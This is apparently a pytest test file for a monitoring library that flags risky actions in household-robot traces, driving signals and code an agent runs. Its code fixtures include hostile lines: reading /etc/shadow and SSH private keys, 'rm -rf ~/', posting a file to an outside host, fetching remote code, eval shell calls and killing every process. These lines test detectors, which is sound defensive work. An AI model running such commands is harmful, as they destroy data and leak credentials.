"""What the predicates of each domain hold of."""

from __future__ import annotations

from importlib.metadata import EntryPoint
from pathlib import Path
from typing import Any

import pytest

from forewarn.abstractions.errors import InvalidInput, SignalFault
from forewarn.monitors.rules import libraries
from forewarn.monitors.rules.labelled import labelled_from
from forewarn.monitors.rules.libraries import add_file, library
from forewarn.monitors.rules.predicates import (
    DOMAINS,
    Domain,
    Event,
    Library,
    Predicate,
    Situation,
)


def held(domain: Domain, events: list[dict[str, Any]]) -> set[str]:
    """Every predicate that holds somewhere in a run."""
    known = library(domain)
    row = {"id": "a", "domain": domain, "label": None, "events": events}
    return set().union(*asked(known, row))


def asked(known: Library, row: dict[str, Any]) -> list[set[str]]:
    """The predicates that hold at each event that can still be decided about."""
    situation = Situation(known)
    found = []
    for event in labelled_from(row).events:
        situation.enter(event)
        if event.moment != "after":
            found.append({name for name in known.names if holds(situation, name)})
    return found


def holds(situation: Situation, name: str) -> bool:
    try:
        return situation.so(name)
    except SignalFault:
        return False


def household(steps: str) -> set[str]:
    events = []
    for step in steps.split(";"):
        verb, thing, liquid = [*step.split(), None, None][:3]
        events.append({"verb": verb, "object": thing, "extra": liquid, "success": True})
    return held("household", events)


def code(text: str) -> set[str]:
    return held(
        "code", [{"code": cell, "success": True} for cell in text.split("---\n")]
    )


@pytest.mark.parametrize("domain", DOMAINS)
def test_each_domain_has_enough_and_each_says_what_it_means(domain: Domain) -> None:
    known = library(domain)
    assert len(known.names) >= 24
    for predicate in map(known.predicates.__getitem__, known.names):
        assert predicate.doc.endswith(".") and len(predicate.doc.split()) >= 3


@pytest.mark.parametrize(
    ("steps", "holds", "fails"),
    [
        ("pick fork; find Microwave; put Microwave", "heats_metal misplaces", "soaks"),
        ("pick Bread; find Toaster; put Toaster", "puts", "misplaces"),
        ("find Mug; fillLiquid Mug wine; pick Mug; find Laptop; pour",
         "spills spills_on_electrical spoils handles_wine", "harms_plant"),
        ("fillLiquid Mug water; pick Mug; find HousePlant; pour", "pours", "spoils"),
        ("fillLiquid Mug wine; pick Mug; find HousePlant; pour", "harms_plant",
         "spills"),
        ("pick Mug; drop", "drops_harmful damages", "throws"),
        ("pick Pillow; throw", "throws", "throws_hard damages"),
        ("find Mug; throw", "", "throws throws_hard damages"),
        ("pick Egg; open Drawer; put Drawer; close Drawer",
         "stows_brittle shuts_in_brittle shuts_in", "damages"),
        ("turn_on StoveKnob", "heats_nothing leaves_stove_on neglects", "runs_tap"),
        ("turn_on StoveKnob; turn_off StoveKnob", "heats_nothing", "neglects"),
        ("turn_on faucet", "runs_tap leaves_tap_running", "heats_nothing"),
        ("find Light_Switch; turn_on lightswitch 2", "turns_on", "overheats"),
    ],
)  # fmt: skip
def test_household(steps: str, holds: str, fails: str) -> None:
    found = household(steps)
    assert set(holds.split()) <= found
    assert not set(fails.split()) & found


def test_a_frame_counts_before_what_was_followed() -> None:
    situation = Situation(library("household"))
    held_mug: dict[str, Any] = {"holding": "Mug", "is_filled_with(Mug, wine)": True}
    situation.enter(Event("before", "drop", values=held_mug))
    assert situation.so("held_filled") and situation.so("drops_harmful")
    situation.enter(Event("before", "drop", values={"holding": None}))
    assert not situation.so("drops_harmful")


@pytest.mark.parametrize(
    ("text", "holds", "fails"),
    [
        ("open('/etc/shadow').read()", "reads_admin_file oversteps", "writes_file"),
        ("p = '/etc'\nopen(f'{p}/fstab')", "reads_admin_file", "posts"),
        ("open('../../etc/group')", "climbs_out reads_admin_file", ""),
        ("open('notes/etc/x.txt')", "reads_file", "oversteps"),
        ("def f(path):\n    return open(path)\nf('/root/.ssh/id_rsa')",
         "reads_admin_file", ""),
        ("from pathlib import Path\nPath('/etc/passwd').read_text()",
         "reads_admin_file", ""),
        ("with open('out.txt', 'w') as f:\n    f.write('x')", "writes_file",
         "oversteps"),
        ("import requests as r\nr.post('https://a.b', data=open('x').read())",
         "posts posts_file abuses_network", "fetches"),
        ("import requests\nrequests.get('https://pypi.org/simple')", "fetches",
         "abuses_network"),
        ("import requests\nrequests.get('http://bad.example.net/x.py')",
         "fetches_unlisted fetches_plainly fetches_program", "posts"),
        ("import requests\n---\nrequests.get('http://bad.test/')", "fetches", ""),
        ("import os\nos.system('rm -rf ~/')", "runs_shell deletes deletes_tree",
         ""),
        ("import subprocess\nsubprocess.run(['pip', 'install', 'git+https://x'])",
         "runs_command installs_foreign takes_over", "runs_shell"),
        ("x = input()\neval(x)", "evaluates takes_over", "evaluates_reaching"),
        ("eval(\"__import__('os').system('ls')\")", "evaluates_reaching", ""),
        ("import pickle\npickle.loads(b'x')", "unpacks_objects takes_over", ""),
        ("import re\nre.compile('a')", "", "evaluates takes_over"),
        ("import psutil\nfor p in psutil.process_iter():\n    p.kill()",
         "kills kills_others watches_machine", ""),
        ("password = 'hunter2'\nprint(password)",
         "holds_secret prints_secret exposes_secrets", ""),
        ("import random\nrandom.seed(7)", "seeds_constant", ""),
        ("import random, time\nrandom.seed(time.time())", "", "seeds_constant"),
        ("if person['gender'] == 'f':\n    x = 1", "judges_people decides_wrongly", ""),
        ("SCORES[person['gender']] + TAX.get(p.get('race'), 0)", "judges_people", ""),
        ("person = {'gender': 'f'}\nprint(person.get('gender'))", "", "judges_people"),
        ("raise_privileges()\nwork()\nlower_privileges()", "keeps_rights takes_over",
         ""),
        ("import os\nos.seteuid(0)\nwork()", "keeps_rights", ""),
        ("raise_privileges()\ntry:\n    work()\nfinally:\n    lower_privileges()", "",
         "keeps_rights takes_over"),
        ("def is_admin(user):\n    '''Is he?'''\n    return True", "lets_everyone_pass",
         ""),
        ("def is_admin(user):\n    return user.admin", "", "decides_wrongly"),
        ("d = {'a': 1, 'a': 2}", "repeats_keys", ""),
        ("d = {'a': 1, 'b': 2}", "", "repeats_keys"),
        ("```python\nimport os\nos.listdir('/etc')\n```", "lists_system_folder", ""),
        (">>> import os\n>>> os.listdir('.')", "lists", "lists_system_folder"),
        ("this is no program", "unreadable", "oversteps"),
        ("(" * 5000, "unreadable", ""),
    ],
)  # fmt: skip
def test_code(text: str, holds: str, fails: str) -> None:
    found = code(text)
    assert set(holds.split()) <= found
    assert not set(fails.split()) & found


def test_comments_and_documentation_are_no_program() -> None:
    text = "# os.system('rm -rf /')\n'''open('/etc/shadow')'''\nx = 1\n"
    assert code(text) <= {"finishes"}


def test_driving_reads_signals_and_remembers() -> None:
    situation = Situation(library("driving"))
    found = []
    for second in range(6):
        speed = 0.0 if second == 1 else 30.0
        values = {"speed": speed, "snow": 0.5, "lead_distance": None}
        situation.enter(Event("tick", values=values, time_s=float(second)))
        found.append(situation.so("waited"))
    assert found == [False, True, True, True, True, False]
    assert not situation.so("lead_near")


# -- predicates that users add

ADDED = """
format: forewarn.predicates/1
domain: household
predicates:
  in_a_hurry: {doc: The robot picks twice in three steps., when: "target_store and once[1, 3 steps] opens"}
  both: {doc: The above while it drops something., when: in_a_hurry and drops}
"""  # noqa: E501


def test_a_file_adds_predicates_that_build_on_each_other(tmp_path: Path) -> None:
    path = tmp_path / "mine.yaml"
    path.write_text(ADDED)
    known = add_file(library("household"), path)
    row = {
        "id": "a",
        "domain": "household",
        "label": None,
        "events": [
            {"verb": "open", "object": "Drawer", "success": True},
            {"verb": "pick", "object": "Mug", "success": True},
            {"verb": "drop", "object": "Drawer", "success": True},
        ],
    }
    rows = [each & {"in_a_hurry", "both"} for each in asked(known, row)]
    assert rows == [set(), set(), {"in_a_hurry", "both"}, set()]


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("both:", "breaks:", "breaks is already in use"),
        ("when: in_a_hurry", "when: in_hurry", "did you mean in_a_hurry"),
        ("domain: household", "domain: code", "not for household"),
        ("both:", "b-th:", "cannot be the name"),
    ],
)
def test_invalid_added_predicate_is_reported(
    tmp_path: Path, old: str, new: str, said: str
) -> None:
    path = tmp_path / "mine.yaml"
    path.write_text(ADDED.replace(old, new))
    with pytest.raises(InvalidInput, match=said):
        add_file(library("household"), path)


OFFERED = [Predicate("on_time", "It is early enough.", lambda e, s, h: e.time_s < 10)]


def test_packages_offer_predicates(monkeypatch: pytest.MonkeyPatch) -> None:
    point = EntryPoint("household.test", f"{__name__}:OFFERED", libraries.GROUP)
    monkeypatch.setattr(EntryPoint, "load", lambda self: OFFERED)
    monkeypatch.setattr(libraries, "entry_points", lambda group: [point])
    libraries.offered.cache_clear()
    try:
        assert "on_time" in library("household").predicates
        assert "on_time" not in library("code").predicates
    finally:
        libraries.offered.cache_clear()


@pytest.mark.parametrize(
    ("text", "holds"),
    [
        ("x = " + "'a' + " * 8000 + "'b'", "unreadable"),
        ("f" + "(f" * 3000, "unreadable"),
        ("-" * 40_000 + "1", "unreadable"),
        ("a(){" * 3_000, "unreadable"),
        ("x" * 60_000, "unreadable"),
        ("```python\neval(x)" + " " * 45_000 + "\n```", "evaluates"),
        ("import os\nos.system('" + "pip " * 10_000 + "')", "runs_shell"),
        ("import os\nos.system('" + "dd " * 12_000 + "')", "runs_shell"),
        ("if a == 1:\n  b\n" + "elif a == 2:\n  b\n" * 200, "lacks_default"),
    ],
    ids=["sum", "calls", "minus", "functions", "long", "spaces", "pip", "dd", "elif"],
)
def test_a_hostile_program_is_read_or_said_to_be_unreadable(
    text: str, holds: str
) -> None:
    assert holds in code(text)
